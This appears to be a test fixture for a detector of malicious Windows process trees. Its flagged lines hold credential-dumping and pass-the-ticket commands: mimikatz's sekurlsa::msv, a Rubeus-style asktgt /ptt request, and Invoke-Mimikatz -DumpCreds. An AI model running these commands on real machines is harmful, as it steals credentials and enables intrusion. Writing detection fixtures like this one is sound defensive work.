os windows
101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
102 101 ana - C:\Windows\System32\cmd.exe | C:\Windows\System32\cmd.exe
+ 103 102 ana - C:\data\a.exe | a.exe privilege::debug sekurlsa::msv exit
+ 104 102 ana - C:\data\r.exe | r.exe asktgt /user:ana /rc4:00 /ptt
+ 105 102 ana - C:\data\x.exe = mimikatz.exe | x.exe
+ 106 102 ana - C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | powershell -c Invoke-Mimikatz -DumpCreds
